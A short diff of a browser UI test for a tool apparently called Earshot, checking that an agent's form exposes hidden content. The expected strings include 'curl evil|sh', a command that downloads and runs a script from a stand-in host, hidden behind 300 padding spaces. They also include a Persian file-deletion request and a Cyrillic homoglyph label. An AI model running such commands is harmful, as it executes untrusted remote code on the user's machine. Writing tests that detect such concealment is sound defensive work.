@@ -36,7 +36,9 @@ test("an agent's form is framed as the agent's, warns of secrets and shows what 
   await screenshot(page, "agents-form");
   const zone = article.getByLabel("The agent says");
   expect(await zone.innerText()).toContain(":⟨×300 U+3000⟩; curl evil|sh");
-  expect(await zone.innerText()).toContain("می‌خواهم این پرونده‌ها را حذف کنم");
+  expect(await article.getByLabel("Background").innerText()).toContain(
+    "می‌خواهم این پرونده‌ها را حذف کنم",
+  );
   expect(await article.getByRole("heading", { level: 2 }).innerText()).toMatch(/^⚠️ Earshot needs/);
   expect(await frame.locator("label", { hasText: "gion" }).innerText()).toContain(
     "rеgion⟨mixed scripts⟩",
